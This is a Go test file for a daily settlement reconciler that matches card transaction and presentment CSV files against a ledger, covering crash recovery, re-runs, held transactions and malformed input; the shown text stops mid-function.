package settlement_test

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
	_ "time/tzdata" // the zone also where the system has no zoneinfo (WebAssembly)

	"github.com/tarjeta-dev/tarjeta/core/ledger"
	"github.com/tarjeta-dev/tarjeta/core/settlement"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var zone = func() *time.Location {
	z, err := time.LoadLocation("America/Argentina/Buenos_Aires")
	if err != nil {
		panic(err)
	}
	return z
}()

// day1 is the scenario's day; now is the morning after.
var (
	day1 = time.Date(2026, 12, 1, 0, 0, 0, 0, zone)
	now  = time.Date(2026, 12, 2, 6, 0, 0, 0, zone)
)

const txHeader = "TRANSACTION_ID,LOCAL_TRANSACTION_DATE_TIME,TRANSACTION_TYPE,USER_ID,LOCAL_AMOUNT,LOCAL_CURRENCY,TRANSACTION_AMOUNT,TRANSACTION_CURRENCY,STATUS,STATUS_DETAIL,SOURCE,ORIGINAL_TRANSACTION_ID,MERCHANT_NAME\r\n"

// scenarioTransactions has one row per case of the reconciliation table,
// with CRLF line ends, a BOM and a quoted field holding a comma.
const scenarioTransactions = "\ufeff" + txHeader +
	"t-match,2026-12-01 10:00:00,PURCHASE,u1,100.00,ARS,100.00,ARS,APPROVED,APPROVED,CLEARING,,\"Kiosco, S.A.\"\r\n" +
	"t-amount,2026-12-01 10:01:00,PURCHASE,u1,120.00,ARS,120.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n" +
	"t-partial,2026-12-01 10:02:00,PURCHASE,u2,30.00,ARS,30.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n" +
	"t-unknown,2026-12-01 10:03:00,PURCHASE,u3,490.00,ARS,490.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n" +
	"t-rejected,2026-12-01 10:04:00,PURCHASE,u1,40.00,ARS,40.00,ARS,REJECTED,INSUFFICIENT_FUNDS,ONLINE,,Bar\r\n" +
	"t-declined,2026-12-01 10:05:00,PURCHASE,u2,70.00,ARS,70.00,ARS,REJECTED,CARD_BLOCKED,ONLINE,,Bar\r\n" +
	"t-held,2026-12-01 10:06:00,PURCHASE,u2,55.00,ARS,55.00,ARS,HELD,OTHER,ONLINE,,Bar\r\n" +
	"t-refund,2026-12-01 10:07:00,REFUND,u2,15.00,ARS,15.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n" +
	"r-1,2026-12-01 10:08:00,REVERSAL_PURCHASE,u1,80.00,ARS,80.00,ARS,APPROVED,APPROVED,ONLINE,t-orig,Bar\r\n" +
	"t-twice,2026-12-01 10:09:00,PURCHASE,u2,10.00,ARS,10.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n" +
	"t-twice,2026-12-01 10:09:00,PURCHASE,u2,12.00,ARS,12.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n" +
	"t-corrected,2026-12-01 10:10:00,PURCHASE,u1,105.00,ARS,105.00,ARS,APPROVED,APPROVED,CLEARING,,Bar\r\n" +
	"t-bad-type,2026-12-01 10:11:00,TELEPORT,u1,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n" +
	"t-bad-amount,2026-12-01 10:12:00,PURCHASE,u1,\"1,000.00\",ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n" +
	"t-bad-quote,2026-12-01 10:13:00,PURCHASE,u1,1.00,ARS,1.00,ARS,APPROVED,APPROVED,ONLINE,,Bar \"Quoted\"\r\n" +
	"t-clp,2026-12-01 10:14:00,WITHDRAWAL,u4,5000,CLP,5000,CLP,APPROVED,APPROVED,ONLINE,,ATM\r\n"

const scenarioPresentations = "PRESENTMENT_ID,TRANSACTION_ID,USER_ID,TRANSACTION_AMOUNT,TRANSACTION_CURRENCY,SETTLEMENT_AMOUNT,SETTLEMENT_CURRENCY,DEBT_AMOUNT,DEBT_CURRENCY,INTERCHANGE_FEE,TAX,FUNCTION_CODE,REVERSE_PRESENTMENT\n" +
	"p1,t-match,u1,100.00,ARS,0.10,USD,100.00,ARS,1.10,0.23,FIRST_PRESENTMENT,FALSE\n" +
	"p2,t-amount,u1,99.00,ARS,0.10,USD,99.00,ARS,1.00,0.21,FIRST_PRESENTMENT,FALSE\n" +
	"p3,t-ghost,u9,10.00,ARS,0.01,USD,10.00,ARS,0.10,0.02,FIRST_PRESENTMENT,FALSE\n" +
	"p4,t-client,u1,33.00,ARS,0.03,USD,33.00,ARS,0.30,0.06,FIRST_PRESENTMENT,FALSE\n" +
	"p5,t-partial,u2,30.00,ARS,30.00,USD,-10.00,USD,-0.50,-0.10,SECOND_PRESENTMENT_PARTIAL,TRUE\n" +
	"p6,t-match,u1,100.00,ARS,0.10,USD,abc,ARS,,,FIRST_PRESENTMENT,FALSE\n"

// scenarioLedger is what the ledger had before the day's run: Pomelo's
// calls, on the day and before it.
func scenarioLedger(t *testing.T) *memLedger {
	l := newLedger()
	at := day1.Add(13 * time.Hour)
	for _, p := range []ledger.Posting{
		credit("u1", "fund-u1", 1000_00, day1.Add(-48*time.Hour)),
		credit("u2", "fund-u2", 1000_00, day1.Add(-48*time.Hour)),
		auth("u1", "t-match", "PURCHASE", -100_00, at),
		auth("u1", "t-amount", "PURCHASE", -100_00, at),
		auth("u2", "t-partial", "PURCHASE", -50_00, at),
		auth("u1", "t-rejected", "PURCHASE", -40_00, at),
		auth("u1", "t-orig", "PURCHASE", -80_00, day1.Add(-24*time.Hour)),
		{Entry: ledger.Entry{UserID: "u1", Currency: "ARS", TransactionID: "r-1", Class: ledger.ClassAuthorization,
			Kind: "REVERSAL_PURCHASE", Status: ledger.UnmatchedReversal, Original: "t-orig-typo", CreatedAt: at}},
		auth("u2", "t-twice", "PURCHASE", -10_00, at),
		auth("u1", "t-corrected", "PURCHASE", -100_00, at),
		{Entry: ledger.Entry{UserID: "u1", Currency: "ARS", TransactionID: "t-corrected", Class: ledger.ClassAdjustmentDebit,
			Kind: "ADJUSTMENT_DEBIT", Amount: -5_00, Status: ledger.Posted, CreatedAt: at}},
		auth("u1", "t-client", "PURCHASE", -33_00, at),
		auth("u1", "t-yesterday", "PURCHASE", -1_00, day1.Add(-time.Minute)),
		auth("u1", "t-tomorrow", "PURCHASE", -1_00, nextDay(day1)),
	} {
		if err := l.post(p); err != nil {
			t.Fatal(err)
		}
	}
	return l
}

func nextDay(d time.Time) time.Time { return d.AddDate(0, 0, 1) }

func auth(user, txn, kind string, amount int64, at time.Time) ledger.Posting {
	return ledger.Posting{Entry: ledger.Entry{UserID: user, Currency: "ARS", TransactionID: txn, Class: ledger.ClassAuthorization,
		Kind: kind, Amount: amount, Status: ledger.Posted, Reversible: -amount, CreatedAt: at}}
}

func credit(user, txn string, amount int64, at time.Time) ledger.Posting {
	return ledger.Posting{Entry: ledger.Entry{UserID: user, Currency: "ARS", TransactionID: txn, Class: ledger.ClassAdjustmentCredit,
		Kind: "ADJUSTMENT_CREDIT", Amount: amount, Status: ledger.Posted, CreatedAt: at}}
}

type fixture struct {
	bucket *memBucket
	ledger *memLedger
	runs   *memRuns
	clock  time.Time
	chunk  int
}

func newFixture(t *testing.T, l *memLedger) *fixture {
	return &fixture{bucket: newBucket(), ledger: l, runs: newRuns(), clock: now, chunk: 4}
}

func (f *fixture) reconciler() *settlement.Reconciler {
	return settlement.New(settlement.Config{
		Bucket: f.bucket, Ledger: f.ledger, Runs: f.runs, Zone: zone, Chunk: f.chunk,
		Now: func() time.Time { return f.clock },
	})
}

func (f *fixture) drop(day time.Time, transactions, presentations string) {
	f.bucket.put("transactions"+day.Format("2006_01_02")+".csv", []byte(transactions))
	f.bucket.put("presentations"+day.Format("2006_01_02")+".csv", []byte(presentations))
}

func (f *fixture) run(t *testing.T, day time.Time) settlement.Summary {
	t.Helper()
	s, err := f.reconciler().Reconcile(context.Background(), day.Format("2006-01-02"), time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func (f *fixture) report(t *testing.T, day time.Time) (summary, exceptions []byte) {
	t.Helper()
	prefix := "reports/" + day.Format("2006/01/02") + "/"
	s, err := f.bucket.Get(context.Background(), prefix+"summary.json")
	if err != nil {
		t.Fatal(err)
	}
	x, err := f.bucket.Get(context.Background(), prefix+"exceptions.csv")
	if err != nil {
		t.Fatal(err)
	}
	return s, x
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(want) {
		t.Errorf("%s differs from the golden file (go test -update to rewrite it):\n%s", name, got)
	}
}

// TestScenario: every case of the table in one day's files, against the
// golden summary and exceptions, and the ledger after it.
func TestScenario(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	s := f.run(t, day1)
	if s.Status != settlement.Completed {
		t.Fatalf("status %s (%s)", s.Status, s.Reason)
	}
	summary, exceptions := f.report(t, day1)
	golden(t, "scenario/summary.json", summary)
	golden(t, "scenario/exceptions.csv", exceptions)
	answered, _ := json.MarshalIndent(s, "", "  ")
	if string(answered)+"\n" != string(summary) {
		t.Errorf("the answer differs from summary.json:\n%s", answered)
	}
	want := map[string][]string{
		"u1": {
			"fund-u1 ADJUSTMENT_CREDIT 100000", "t-match PURCHASE -10000", "t-amount PURCHASE -10000",
			"t-rejected PURCHASE -4000", "t-orig PURCHASE -8000", "r-1 REVERSAL_PURCHASE 0", "t-corrected PURCHASE -10000", "t-corrected ADJUSTMENT_DEBIT -500",
			"t-client PURCHASE -3300", "t-yesterday PURCHASE -100", "t-tomorrow PURCHASE -100",
			"t-amount SETTLEMENT_DEBIT -2000", "t-rejected SETTLEMENT_CREDIT 4000", "r-1 SETTLEMENT_CREDIT 8000",
		},
		"u2": {
			"fund-u2 ADJUSTMENT_CREDIT 100000", "t-partial PURCHASE -5000", "t-twice PURCHASE -1000",
			"t-partial SETTLEMENT_CREDIT 2000", "t-refund SETTLEMENT_CREDIT 1500", "t-twice SETTLEMENT_DEBIT -200",
		},
		"u3": {"t-unknown SETTLEMENT_DEBIT -49000"},
		"u4": {"t-clp SETTLEMENT_DEBIT -5000"},
	}
	for user, entries := range want {
		if got := f.ledger.statement(user); !reflect.DeepEqual(got, entries) {
			t.Errorf("%s's entries:\n got %q\nwant %q", user, got, entries)
		}
	}
}

// TestRerunChangesNothing: the same day again posts nothing and answers the
// same summary; an entry made since shows up as a new CLIENT_ONLY.
func TestRerunChangesNothing(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	first := f.run(t, day1)
	entries := f.ledger.statement("u1")
	f.clock = f.clock.Add(time.Hour)
	again := f.run(t, day1)
	if !reflect.DeepEqual(first, again) {
		t.Errorf("the re-run's summary differs:\n%+v\n%+v", first, again)
	}
	if got := f.ledger.statement("u1"); !reflect.DeepEqual(got, entries) {
		t.Errorf("the re-run moved money: %q", got)
	}
	if err := f.ledger.post(auth("u1", "t-late", "PURCHASE", -1_00, day1.Add(20*time.Hour))); err != nil {
		t.Fatal(err)
	}
	third := f.run(t, day1)
	if third.Transactions.ClientOnly != first.Transactions.ClientOnly+1 {
		t.Errorf("client_only %d after an entry of the day, was %d", third.Transactions.ClientOnly, first.Transactions.ClientOnly)
	}
	if got := f.ledger.statement("u1"); len(got) != len(entries)+1 {
		t.Errorf("the third run moved money: %q", got)
	}
}

// TestChangedFile: a file whose ETag changed is reconciled again, posting
// only the difference, and the summary names the inputs it replaces.
func TestChangedFile(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	first := f.run(t, day1)
	f.drop(day1, strings.Replace(scenarioTransactions, "t-unknown,2026-12-01 10:03:00,PURCHASE,u3,490.00", "t-unknown,2026-12-01 10:03:00,PURCHASE,u3,500.00", 1), scenarioPresentations)
	second := f.run(t, day1)
	if !reflect.DeepEqual(second.Replaces, first.Inputs) {
		t.Errorf("replaces %+v, want %+v", second.Replaces, first.Inputs)
	}
	if got, want := f.ledger.statement("u3"), []string{"t-unknown SETTLEMENT_DEBIT -49000", "t-unknown SETTLEMENT_DEBIT -1000"}; !reflect.DeepEqual(got, want) {
		t.Errorf("u3: %q, want %q", got, want)
	}
	// The report is a clean run's of the changed file: the day's postings
	// under the first file are in it, as what the day moved.
	changed := strings.Replace(scenarioTransactions, "t-unknown,2026-12-01 10:03:00,PURCHASE,u3,490.00", "t-unknown,2026-12-01 10:03:00,PURCHASE,u3,500.00", 1)
	clean := newFixture(t, scenarioLedger(t))
	clean.drop(day1, changed, scenarioPresentations)
	want := clean.run(t, day1)
	if second.Transactions != want.Transactions {
		t.Errorf("counts %+v, want a clean run's %+v", second.Transactions, want.Transactions)
	}
	_, gotX := f.report(t, day1)
	_, wantX := clean.report(t, day1)
	if string(gotX) != string(wantX) {
		t.Errorf("exceptions.csv:\n%s\nwant a clean run's:\n%s", gotX, wantX)
	}
}

// TestChangedAfterCrash: a run cut short, then its file changed, then run
// again: the ledger and the report are a clean run's of the new file, and
// the summary names the inputs it replaces.
func TestChangedAfterCrash(t *testing.T) {
	changed := strings.NewReplacer("u3,490.00,ARS,490.00", "u3,495.00,ARS,495.00", "u2,15.00,ARS,15.00", "u2,16.00,ARS,16.00").Replace(scenarioTransactions)
	clean := newFixture(t, scenarioLedger(t))
	clean.drop(day1, changed, scenarioPresentations)
	want := clean.run(t, day1)
	_, wantX := clean.report(t, day1)
	for crashAt := 1; crashAt <= 4; crashAt++ {
		f := newFixture(t, scenarioLedger(t))
		f.chunk = 3
		f.drop(day1, scenarioTransactions, scenarioPresentations)
		f.ledger.failSettle = crashAt
		if _, err := f.reconciler().Reconcile(context.Background(), "2026-12-01", time.Time{}); !errors.Is(err, errCrash) {
			t.Fatalf("crash at %d: %v", crashAt, err)
		}
		first, _ := f.runs.Run(context.Background(), "2026-12-01")
		f.clock = f.clock.Add(settlement.DefaultLease + time.Second)
		f.drop(day1, changed, scenarioPresentations)
		s := f.run(t, day1)
		if s.Transactions != want.Transactions {
			t.Errorf("crash at %d: counts %+v, want a clean run's %+v", crashAt, s.Transactions, want.Transactions)
		}
		if first.Checkpoint.Rows > 0 && !reflect.DeepEqual(s.Replaces, first.Inputs) {
			t.Errorf("crash at %d: replaces %+v, want %+v", crashAt, s.Replaces, first.Inputs)
		}
		if _, x := f.report(t, day1); string(x) != string(wantX) {
			t.Errorf("crash at %d: exceptions.csv:\n%s\nwant:\n%s", crashAt, x, wantX)
		}
		for _, u := range []string{"u1", "u2", "u3", "u4"} {
			if got, w := f.ledger.book.Balance(u, "ARS"), clean.ledger.book.Balance(u, "ARS"); got != w {
				t.Errorf("crash at %d: %s's balance %d, want %d", crashAt, u, got, w)
			}
		}
	}
}

// TestLaterDays: a transaction seen again (ONLINE, then CLEARING) is
// adjusted against everything posted on any day; a HELD one resolves the
// next day; Pomelo's adjustment after a run leaves the next run only the
// rest to post.
func TestLaterDays(t *testing.T) {
	l := newLedger()
	for _, p := range []ledger.Posting{
		credit("u1", "fund", 100_00, day1.Add(-time.Hour)),
		auth("u1", "t-x", "PURCHASE", -10_00, day1.Add(time.Hour)),
	} {
		if err := l.post(p); err != nil {
			t.Fatal(err)
		}
	}
	f := newFixture(t, l)
	f.drop(day1, txHeader+
		"t-x,,PURCHASE,u1,10.00,ARS,10.00,ARS,APPROVED,APPROVED,ONLINE,,\r\n"+
		"t-h,,PURCHASE,u1,20.00,ARS,20.00,ARS,HELD,OTHER,ONLINE,,\r\n"+
		"t-y,,PURCHASE,u1,5.00,ARS,5.00,ARS,APPROVED,APPROVED,ONLINE,,\r\n",
		"TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n")
	s1 := f.run(t, day1)
	if c := s1.Transactions; c.Matched != 1 || c.Held != 1 || c.Adjusted != 1 {
		t.Fatalf("day 1: %+v", c)
	}
	// Pomelo corrects t-y by 1.00 through our adjustments endpoint.
	if err := l.post(ledger.Posting{Entry: ledger.Entry{UserID: "u1", Currency: "ARS", TransactionID: "t-y", Class: ledger.ClassAdjustmentDebit,
		Kind: "ADJUSTMENT_DEBIT", Amount: -1_00, Status: ledger.Posted, CreatedAt: nextDay(day1).Add(time.Hour)}}); err != nil {
		t.Fatal(err)
	}
	day2 := nextDay(day1)
	f.clock = now.AddDate(0, 0, 1)
	f.drop(day2, txHeader+
		"t-x,,PURCHASE,u1,12.00,ARS,12.00,ARS,APPROVED,APPROVED,CLEARING,,\r\n"+
		"t-h,,PURCHASE,u1,20.00,ARS,20.00,ARS,APPROVED,APPROVED,CLEARING,,\r\n"+
		"t-y,,PURCHASE,u1,7.00,ARS,7.00,ARS,APPROVED,APPROVED,CLEARING,,\r\n",
		"TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n")
	s2 := f.run(t, day2)
	if c := s2.Transactions; c.AmountAdjusted != 2 || c.Adjusted != 1 || c.ClientOnly != 0 {
		t.Errorf("day 2: %+v", c)
	}
	want := []string{
		"fund ADJUSTMENT_CREDIT 10000", "t-x PURCHASE -1000", "t-y SETTLEMENT_DEBIT -500", "t-y ADJUSTMENT_DEBIT -100",
		"t-x SETTLEMENT_DEBIT -200", "t-h SETTLEMENT_DEBIT -2000", "t-y SETTLEMENT_DEBIT -100",
	}
	if got := l.statement("u1"); !reflect.DeepEqual(got, want) {
		t.Errorf("u1:\n got %q\nwant %q", got, want)
	}
}

// TestHeldCarried: a transaction held on day 1 and absent from day 2's file
// is carried into day 2's report (counted apart from the rows, listed in
// exceptions.csv, still in held.csv with the day it was first held); held
// again on day 3 it keeps that date; resolved on day 4 it is gone, and its
// movement is posted once.
func TestHeldCarried(t *testing.T) {
	l := newLedger()
	if err := l.post(credit("u1", "fund", 100_00, day1.Add(-time.Hour))); err != nil {
		t.Fatal(err)
	}
	f := newFixture(t, l)
	empty := "TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE\n"
	held := "t-h,,PURCHASE,u1,20.00,ARS,20.00,ARS,HELD,OTHER,ONLINE,,\r\n"
	days := []struct {
		file        string
		counts      settlement.Counts
		heldCSV     string
		carriedLine bool
	}{
		{txHeader + held + "t-h2,,PURCHASE,u1,1.00,ARS,1.00,ARS,HELD,OTHER,ONLINE,,\r\n" +
			"t-h2,,PURCHASE,u1,1.00,ARS,1.00,ARS,REJECTED,OTHER,CLEARING,,\r\n", // held, then resolved in the same file
			settlement.Counts{Rows: 3, Held: 2, Matched: 1}, "TRANSACTION_ID,USER_ID,SINCE\nt-h,u1,2026-12-01\n", false},
		{txHeader, settlement.Counts{HeldCarried: 1}, "TRANSACTION_ID,USER_ID,SINCE\nt-h,u1,2026-12-01\n", true},
		{txHeader + held, settlement.Counts{Rows: 1, Held: 1}, "TRANSACTION_ID,USER_ID,SINCE\nt-h,u1,2026-12-01\n", false},
		{txHeader + "t-h,,PURCHASE,u1,20.00,ARS,20.00,ARS,APPROVED,APPROVED,CLEARING,,\r\n", settlement.Counts{Rows: 1, Adjusted: 1},
			"TRANSACTION_ID,USER_ID,SINCE\n", false},
	}
	for i, d := range days {
		day := day1.AddDate(0, 0, i)
		f.clock = now.AddDate(0, 0, i)
		f.drop(day, d.file, empty)
		s := f.run(t, day)
		if s.Status != settlement.Completed || s.Transactions != d.counts {
			t.Errorf("day %d: %s %+v (%s), want %+v", i+1, s.Status, s.Transactions, s.Reason, d.counts)
		}
		got, err := f.bucket.Get(context.Background(), "reports/"+day.Format("2006/01/02")+"/held.csv")
		if err != nil || string(got) != d.heldCSV {
			t.Errorf("day %d: held.csv %q %v, want %q", i+1, got, err, d.heldCSV)
		}
		_, x := f.report(t, day)
		if carried := strings.Contains(string(x), "t-h,HELD,,,NONE,held by Pomelo since 2026-12-01"); carried != d.carriedLine {
			t.Errorf("day %d: exceptions.csv carries t-h: %v, want %v:\n%s", i+1, carried, d.carriedLine, x)
		}
	}
	want := []string{"fund ADJUSTMENT_CREDIT 10000", "t-h SETTLEMENT_DEBIT -2000"}
	if got := l.statement("u1"); !reflect.DeepEqual(got, want) {
		t.Errorf("u1:\n got %q\nwant %q", got, want)
	}
}

// TestCrashAndResume: a run cut short anywhere (a ledger write half done,
// a report part or summary not written, a checkpoint lost), then run again,
// leaves exactly the ledger and the reports of one clean run.
func TestCrashAndResume(t *testing.T) {
	clean := newFixture(t, scenarioLedger(t))
	clean.drop(day1, scenarioTransactions, scenarioPresentations)
	want := clean.run(t, day1)
	wantSummary, wantExceptions := clean.report(t, day1)
	rng := rand.New(rand.NewPCG(1, 2))
	total := 0
	defer func() {
		if total < 40 {
			t.Errorf("only %d crashes in 40 cases: the injection does not work", total)
		}
	}()
	for i := 0; i < 40; i++ {
		f := newFixture(t, scenarioLedger(t))
		f.chunk = 1 + rng.IntN(6)
		f.drop(day1, scenarioTransactions, scenarioPresentations)
		crashes := 0
		for attempt := 0; ; attempt++ {
			if attempt < 3 {
				if rng.IntN(2) == 0 {
					f.ledger.failSettle = 1 + rng.IntN(4)
				} else {
					f.bucket.failPut = 1 + rng.IntN(6)
				}
			}
			s, err := f.reconciler().Reconcile(context.Background(), "2026-12-01", time.Time{})
			f.ledger.failSettle, f.bucket.failPut = 0, 0
			if err != nil {
				if !errors.Is(err, errCrash) {
					t.Fatalf("case %d: %v", i, err)
				}
				crashes++
				total++
				f.clock = f.clock.Add(settlement.DefaultLease + time.Second) // the crashed run's lease passes
				continue
			}
			if !reflect.DeepEqual(s, want) {
				t.Fatalf("case %d (chunk %d, %d crashes): summary\n%+v\nwant\n%+v", i, f.chunk, crashes, s, want)
			}
			break
		}
		gotSummary, gotExceptions := f.report(t, day1)
		if string(gotSummary) != string(wantSummary) || string(gotExceptions) != string(wantExceptions) {
			t.Fatalf("case %d: reports differ from a clean run's:\n%s\n%s", i, gotSummary, gotExceptions)
		}
		for _, u := range []string{"u1", "u2", "u3", "u4"} {
			if got, w := f.ledger.statement(u), clean.ledger.statement(u); !reflect.DeepEqual(got, w) {
				t.Fatalf("case %d: %s's entries %q, want %q", i, u, got, w)
			}
		}
	}
}

// TestDeadline: a run past its time answers RUNNING with its checkpoint
// and lets go of the date, the next call goes on from there, and a call
// while another holds the date answers its progress with ErrBusy.
func TestDeadline(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, scenarioTransactions, scenarioPresentations)
	ticks := 0
	r := settlement.New(settlement.Config{Bucket: f.bucket, Ledger: f.ledger, Runs: f.runs, Zone: zone, Chunk: 4,
		Now: func() time.Time { ticks++; return now.Add(time.Duration(ticks) * time.Second) }})
	s, err := r.Reconcile(context.Background(), "2026-12-01", now.Add(4*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	if s.Status != settlement.Running || s.Checkpoint == nil || s.Checkpoint.Rows == 0 || s.Checkpoint.Rows == 16 {
		t.Fatalf("want RUNNING part way: %+v", s)
	}
	last, err := f.reconciler().Last(context.Background(), "2026-12-01")
	if err != nil || !reflect.DeepEqual(last, s) {
		t.Errorf("Last while paused: %+v %v", last, err)
	}
	done := f.run(t, day1)
	if done.Status != settlement.Completed || done.Transactions.Rows != 16 {
		t.Fatalf("resumed: %+v", done)
	}
	if last, err = f.reconciler().Last(context.Background(), "2026-12-01"); err != nil || !reflect.DeepEqual(last, done) {
		t.Errorf("Last: %+v %v", last, err)
	}
	// Another call holds the next day.
	held := settlement.Run{Date: "2026-12-02", Version: 1, Attempt: 1, Status: settlement.Running, LeaseUntil: now.Add(time.Minute)}
	if err := f.runs.SaveRun(context.Background(), held); err != nil {
		t.Fatal(err)
	}
	busy, err := f.reconciler().Reconcile(context.Background(), "2026-12-02", time.Time{})
	if !errors.Is(err, settlement.ErrBusy) || busy.Status != settlement.Running {
		t.Errorf("while another call holds the date: %+v %v", busy, err)
	}
}

// TestFailures: a missing file, a missing column, an empty file and a bad
// date; a FAILED run changes nothing and says why.
func TestFailures(t *testing.T) {
	for _, tc := range []struct {
		name, transactions, presentations, reason string
		drop                                      bool
	}{
		{"no files", "", "", "no object transactions2026_12_01.csv in the bucket; no object presentations2026_12_01.csv in the bucket", false},
		{"missing column", "TRANSACTION_ID,TRANSACTION_TYPE,USER_ID,LOCAL_AMOUNT,STATUS\nt,PURCHASE,u1,1.00,APPROVED\n", scenarioPresentations,
			"transactions2026_12_01.csv: transactions2026_12_01.csv has no column LOCAL_CURRENCY", true},
		{"empty transaction file", "", scenarioPresentations, "transactions2026_12_01.csv: the file is empty: it has no header line", true},
		{"presentation column", scenarioTransactions, "TRANSACTION_ID,DEBT_AMOUNT,FUNCTION_CODE\n",
			"presentations2026_12_01.csv: presentations2026_12_01.csv has no column DEBT_CURRENCY", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, scenarioLedger(t))
			if tc.drop {
				f.drop(day1, tc.transactions, tc.presentations)
			}
			s := f.run(t, day1)
			if s.Status != settlement.Failed || s.Reason != tc.reason {
				t.Errorf("got %s %q, want FAILED %q", s.Status, s.Reason, tc.reason)
			}
			last, err := f.reconciler().Last(context.Background(), "2026-12-01")
			if err != nil || last.Reason != tc.reason {
				t.Errorf("Last: %+v %v", last, err)
			}
		})
	}
	f := newFixture(t, newLedger())
	for _, date := range []string{"2026-12-03", "2026-13-01", "2026-2-1", "yesterday", ""} {
		if _, err := f.reconciler().Reconcile(context.Background(), date, time.Time{}); !errors.Is(err, settlement.ErrDate) {
			t.Errorf("%q: %v, want ErrDate", date, err)
		}
	}
	if _, err := f.reconciler().Last(context.Background(), "2026-11-30"); !errors.Is(err, settlement.ErrNoRun) {
		t.Errorf("never run: %v", err)
	}
	if _, err := f.reconciler().Reconcile(context.Background(), "2026-12-02", time.Time{}); err != nil {
		t.Errorf("today is a valid date: %v", err)
	}
}

// TestRefusedRow: a row whose posting the ledger refuses (a balance past
// ±MaxBalance) is that row's exception, REFUSED with the reason; the rest
// of the day applies, and running it again moves nothing more.
func TestRefusedRow(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	big := "10000000000000.00"
	f.drop(day1, txHeader+
		"t-big1,2026-12-01 09:00:00,PURCHASE,u9,"+big+",ARS,"+big+",ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n"+
		"t-big2,2026-12-01 09:01:00,PURCHASE,u9,"+big+",ARS,"+big+",ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n"+
		"t-unknown,2026-12-01 10:03:00,PURCHASE,u3,490.00,ARS,490.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n", scenarioPresentations)
	for range 2 {
		s := f.run(t, day1)
		c := s.Transactions
		if s.Status != settlement.Completed || c.Rows != 3 || c.Adjusted != 2 || c.Refused != 1 {
			t.Fatalf("%s %q, counts %+v; want COMPLETED, 2 adjusted, 1 refused", s.Status, s.Reason, c)
		}
		if b := f.ledger.book.Balance("u9", "ARS"); b != -ledger.MaxBalance {
			t.Errorf("u9's balance %d, want -MaxBalance", b)
		}
		if b := f.ledger.book.Balance("u3", "ARS"); b != -490_00 {
			t.Errorf("u3's balance %d: the row after the refused one did not apply", b)
		}
		_, x := f.report(t, day1)
		if !strings.Contains(string(x), "t-big2,REFUSED,ONLINE,APPROVED,NONE,the ledger refused to debit 10000000000000.00 ARS: ledger: balance would leave the bound") {
			t.Errorf("exceptions.csv:\n%s", x)
		}
		if !slices.ContainsFunc(s.Anomalies, func(a settlement.Anomaly) bool { return a.TransactionID == "t-big2" && a.Rule == settlement.Refused }) {
			t.Errorf("anomalies %+v", s.Anomalies)
		}
	}
}

// TestFailedMovesNothing: a presentation file the run cannot use (no
// DEBT_AMOUNT, empty, DEBT_CURRENCY twice) fails the run before its first
// posting; once the file is fixed, a run posts once.
func TestFailedMovesNothing(t *testing.T) {
	row := txHeader + "t-unknown,2026-12-01 10:03:00,PURCHASE,u3,10.00,ARS,10.00,ARS,APPROVED,APPROVED,ONLINE,,Bar\r\n"
	for name, pres := range map[string]string{
		"no DEBT_AMOUNT":      "TRANSACTION_ID,DEBT_CURRENCY,FUNCTION_CODE\n",
		"empty":               "",
		"DEBT_CURRENCY twice": "TRANSACTION_ID,DEBT_AMOUNT,DEBT_CURRENCY,FUNCTION_CODE,DEBT_CURRENCY\n",
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, scenarioLedger(t))
			f.drop(day1, row, pres)
			s := f.run(t, day1)
			if s.Status != settlement.Failed || !strings.Contains(s.Reason, "presentations2026_12_01.csv") {
				t.Fatalf("%s %q, want FAILED naming the presentation file", s.Status, s.Reason)
			}
			if b := f.ledger.book.Balance("u3", "ARS"); b != 0 {
				t.Fatalf("a FAILED run moved %d", b)
			}
			f.drop(day1, row, scenarioPresentations)
			for range 2 {
				if s := f.run(t, day1); s.Status != settlement.Completed {
					t.Fatalf("after the fix: %s %q", s.Status, s.Reason)
				}
			}
			if b := f.ledger.book.Balance("u3", "ARS"); b != -10_00 {
				t.Errorf("after the fix, u3's balance %d, want -10.00 once", b)
			}
		})
	}
}

// TestIgnoredColumnTwice: a column the run does not read may repeat; one it
// reads may not.
func TestIgnoredColumnTwice(t *testing.T) {
	f := newFixture(t, scenarioLedger(t))
	f.drop(day1, strings.Replace(scenarioTransactions, "MERCHANT_NAME\r\n", "MERCHANT_NAME,MERCHANT_NAME\r\n", 1), scenarioPresentations)
	if s := f.run(t, day1); s.Status != settlement.Completed || s.Transactions.Rows != 16 {
		t.Errorf("MERCHANT_NAME twice: %s %q %+v", s.Status, s.Reason, s.Transactions)
	}
	f = newFixture(t, scenarioLedger(t))
